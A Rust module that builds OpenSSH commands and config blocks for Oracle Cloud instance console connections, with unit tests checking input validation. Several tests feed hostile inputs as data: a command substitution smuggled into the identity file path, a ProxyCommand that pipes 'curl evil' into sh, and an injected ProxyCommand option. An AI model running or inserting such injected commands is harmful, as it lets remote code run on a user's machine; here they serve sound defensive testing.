//! What the OCI page shows to reach an instance's console with OpenSSH: the
//! identity file field and, per connection, core's command and config block
//! or the reason it cannot be written.
//!
//! One identity file serves every row, so its error is the field's, not a
//! row's; any other error (a connection string of an unknown shape) is the
//! row's.

use cloudlink_core::configs::{ConfigError, SshAccess, ssh_access};
use cloudlink_core::oci::InstanceConsoleConnection;

use crate::logic::FieldErrors;

/// The identity file field's wire name (as core names it in its errors).
pub const IDENTITY_FIELD: &str = "identityFile";
/// What the identity file field starts with: OpenSSH's default Ed25519 key.
pub const DEFAULT_IDENTITY: &str = "~/.ssh/id_ed25519";

/// The identity file to pass: `None` (OpenSSH's own defaults) when the field is blank.
pub fn identity(field: &str) -> Option<&str> {
    Some(field.trim()).filter(|f| !f.is_empty())
}

/// The command and config block of `c` for the identity file field's text.
pub fn access(
    c: &InstanceConsoleConnection,
    identity_field: &str,
) -> Result<SshAccess, ConfigError> {
    ssh_access(c, identity(identity_field))
}

/// The identity file field's error: core's, from the first connection that
/// got as far as reading it. No connection, no error shown.
pub fn identity_errors(
    connections: &[InstanceConsoleConnection],
    identity_field: &str,
) -> FieldErrors {
    let mut errors = FieldErrors::new();
    let bad = connections
        .iter()
        .filter_map(|c| access(c, identity_field).err())
        .find(|e| e.field() == IDENTITY_FIELD);
    if let Some(e) = bad {
        errors.add(IDENTITY_FIELD, e.to_string());
    }
    errors
}

/// A row's own error, if any (the identity file's shows at its field).
pub fn row_error(result: &Result<SshAccess, ConfigError>) -> Option<String> {
    match result {
        Err(e) if e.field() != IDENTITY_FIELD => Some(e.to_string()),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const INSTANCE: &str = "ocid1.instance.oc1.iad.anuwcljtsandboxweb01";

    fn connection(string: Option<&str>) -> InstanceConsoleConnection {
        InstanceConsoleConnection {
            id: Some("ocid1.instanceconsoleconnection.oc1.iad.abc123".to_owned()),
            instance_id: Some(INSTANCE.to_owned()),
            connection_string: string.map(str::to_owned),
            service_host_key_fingerprint: Some("SHA256:Zm9vYmFyYmF6cXV4".to_owned()),
            ..Default::default()
        }
    }

    fn good() -> InstanceConsoleConnection {
        connection(Some(&format!(
            "ssh -o ProxyCommand='ssh -W %h:%p -p 443 ocid1.instanceconsoleconnection.oc1.iad.abc123@instance-console.us-ashburn-1.oci.oraclecloud.com' {INSTANCE}"
        )))
    }

    #[test]
    fn the_default_identity_goes_into_the_command_and_the_block() {
        let a = access(&good(), DEFAULT_IDENTITY).unwrap();
        assert_eq!(
            a.command,
            format!(
                "ssh -i ~/.ssh/id_ed25519 -o ProxyCommand='ssh -i ~/.ssh/id_ed25519 -W %h:%p -p 443 \
                 ocid1.instanceconsoleconnection.oc1.iad.abc123@instance-console.us-ashburn-1.oci.oraclecloud.com' {INSTANCE}"
            )
        );
        assert!(
            a.config_block
                .contains("    IdentityFile ~/.ssh/id_ed25519\n")
        );
        assert_eq!(
            a.host_key_fingerprint.as_deref(),
            Some("SHA256:Zm9vYmFyYmF6cXV4")
        );
    }

    #[test]
    fn a_blank_identity_leaves_the_keys_to_openssh() {
        assert_eq!(identity("  "), None);
        assert_eq!(identity(" ~/.ssh/oci "), Some("~/.ssh/oci"));
        let a = access(&good(), "").unwrap();
        assert!(!a.command.contains(" -i "));
        assert!(!a.config_block.contains("IdentityFile"));
    }

    #[test]
    fn a_hostile_identity_is_the_field_s_error_not_the_row_s() {
        let rows = [good(), good()];
        let hostile = "~/.ssh/id'$(touch /tmp/x)";
        let errors = identity_errors(&rows, hostile);
        let message = errors.message(IDENTITY_FIELD).unwrap();
        assert!(
            message.starts_with("identityFile must be a path"),
            "{message}"
        );
        let result = access(&rows[0], hostile);
        assert!(result.is_err());
        assert_eq!(row_error(&result), None);
        assert!(identity_errors(&rows, DEFAULT_IDENTITY).is_empty());
        assert!(identity_errors(&[], hostile).is_empty());
    }

    #[test]
    fn a_connection_string_of_another_shape_is_the_row_s_error() {
        let odd = connection(Some("ssh -o ProxyCommand='curl evil | sh' x"));
        let result = access(&odd, DEFAULT_IDENTITY);
        assert!(
            row_error(&result)
                .unwrap()
                .starts_with("connectionString must be")
        );
        let none = access(&connection(None), DEFAULT_IDENTITY);
        assert_eq!(
            row_error(&none).as_deref(),
            Some("connectionString is required")
        );
        // The odd row hides no identity error found on a good one.
        let errors = identity_errors(&[odd, good()], "-oProxyCommand=x");
        assert!(errors.has(IDENTITY_FIELD));
    }
}
